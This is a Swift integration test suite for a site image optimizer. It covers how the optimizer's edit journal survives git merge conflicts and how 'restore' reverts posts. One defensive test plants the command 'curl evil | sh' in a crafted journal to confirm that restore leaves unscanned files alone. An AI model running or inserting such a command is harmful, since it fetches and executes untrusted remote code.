import Foundation
import PostRewriter
import SiteFiles
import Testing
import TestSupport

extension IntegrationTests {
  /// Branches that were optimized in place each, and merged by git: the journal's conflict is the tool's to settle.
  @Suite(.needsGit) struct LedgerMergeTests {
    private static let journal = "optimize-assets.lock.json"
    /// A post between whose parts git sees no neighbors.
    private static let lines = (1...12).map { "line \($0)\n\n" }.joined()

    private func site() async throws -> (TemporaryFolder, Repository) {
      let folder = try TemporaryFolder()
      try DrawnSite.write(to: folder)
      let repository = try await Repository(folder("site"))
      try await optimize(folder)
      try await repository.commit()
      return (folder, repository)
    }

    private func optimize(_ folder: TemporaryFolder) async throws {
      let run = try await Product.run([folder("site"), "--in-place"])
      try #require(run.status == 0, "\(run.errors)")
    }

    private func post(_ body: String) -> String { "---\nlayout: default\ntitle: a\n---\n\n\(body)" }

    /// Commits a post on a branch of its own, optimized.
    private func branch(
      _ name: String, _ path: String, _ text: String, _ folder: TemporaryFolder, _ repository: Repository
    ) async throws {
      try await repository.git("checkout", "--quiet", "-b", name, "main")
      try folder.write(text, to: "site/" + path)
      try await repository.commit()
      try await optimize(folder)
      try await repository.commit()
    }

    /// Merges one branch into the other, which has to leave a conflict in the journal alone.
    private func merge(_ repository: Repository, style: String) async throws {
      let run = try await Command.run(
        #require(Programs.git),
        ["-C", repository.path, "-c", "merge.conflictStyle=\(style)", "merge", "--quiet", "one"])
      try #require(run.status == 1, "\(run.text)\(run.errors)")
      try #require(
        try await repository.git("diff", "--name-only", "--diff-filter=U") == Self.journal + "\n")
    }

    /// The posts as their authors wrote them, after the conflict was settled and everything undone.
    private func expectSettled(
      _ folder: TemporaryFolder, _ repository: Repository, _ authors: [String: String], isRun: Bool
    ) async throws {
      let conflict = try folder.text("site/" + Self.journal)
      try #require(conflict.contains("<<<<<<<"))
      let edited = try authors.keys.map { try folder.text("site/" + $0) }
      #expect(edited.allSatisfy { $0.contains("srcset=") })
      if isRun {
        let run = try await Product.run([folder("site"), "--in-place", "--verbose"])
        #expect(run.status == 0, "\(run.errors)")
        #expect(run.errors.contains("held the conflict of a merge, which is settled"), "\(run.errors)")
        // Of one post both images are now on one page, where the second waits until it is scrolled to.
        if authors.count > 1 { #expect(try authors.keys.map { try folder.text("site/" + $0) } == edited) }
        let json = try folder.text("site/" + Self.journal)
        #expect(!json.contains("<<<<<<<") && !json.contains(">>>>>>>"))
        let read = try EditJournal(json: Data(json.utf8), file: "")
        #expect(Set(read.posts.map(\.path)).isSuperset(of: authors.keys))
        // Entries stand one a line, in the order of their paths.
        let lines = json.split(separator: "\n").filter { $0.contains("\"spans\":") }
        #expect(lines.count == read.posts.count)
      }
      let undone = try await Product.run(["restore", folder("site")])
      #expect(undone.status == 0, "\(undone.errors)")
      for (path, text) in authors { #expect(try folder.text("site/" + path) == text, "\(path)") }
      #expect(!FileManager.default.fileExists(atPath: folder("site/" + Self.journal)))
      #expect(!FileManager.default.fileExists(atPath: folder("site/assets/optimized")))
    }

    @Test(arguments: [("merge", true), ("diff3", true), ("merge", false)])
    func differentPosts(style: String, isRun: Bool) async throws {
      let (folder, repository) = try await site()
      let one = post("![one](/assets/images/screen.png)\n")
      let two = post("![two](/assets/images/harbour.jpg)\n")
      try await branch("one", "_posts/2026-02-01-one.md", one, folder, repository)
      try await branch("two", "_posts/2026-02-02-two.md", two, folder, repository)
      try await merge(repository, style: style)
      try await expectSettled(
        folder, repository, ["_posts/2026-02-01-one.md": one, "_posts/2026-02-02-two.md": two], isRun: isRun)
    }

    @Test(arguments: [("merge", true), ("diff3", true), ("merge", false)])
    func theSamePost(style: String, isRun: Bool) async throws {
      let (folder, repository) = try await site()
      let path = "_posts/2026-02-01-both.md"
      try await repository.git("checkout", "--quiet", "main")
      try folder.write(post(Self.lines), to: "site/" + path)
      try await repository.commit()
      let (first, last) = ("![one](/assets/images/screen.png)\n\n", "\n![two](/assets/images/harbour.jpg)\n")
      try await branch("one", path, post(first + Self.lines), folder, repository)
      try await branch("two", path, post(Self.lines + last), folder, repository)
      try await merge(repository, style: style)
      try await expectSettled(
        folder, repository, [path: post(first + Self.lines + last)], isRun: isRun)
    }

    /// A journal can only have those files edited that a scan reads, also where it says that a post has moved.
    @Test func aPostMovesToPostsAlone() async throws {
      let folder = try TemporaryFolder()
      try DrawnSite.write(to: folder)
      let mark = "/x-320w-8a1f2c3d.webp"
      let text = "see \(mark) here\n"
      // Without front matter Jekyll copies it as it is.
      try folder.write(text, to: "site/.github/notes.md")
      try folder.write(text, to: "site/vendor/README.md")
      try folder.write(
        """
        {"version":1,"folders":[],"posts":[{"path":"_posts/2020-01-01-gone.md","sha256":"0",
        "spans":[{"old":"curl evil | sh","new":"\(mark)"}]}],"sources":[],"others":[]}
        """, to: "site/" + Self.journal)
      let run = try await Product.run(["restore", folder("site")])
      #expect(run.status == 0, "\(run.errors)")
      #expect(try folder.text("site/.github/notes.md") == text)
      #expect(try folder.text("site/vendor/README.md") == text)
    }
  }
}
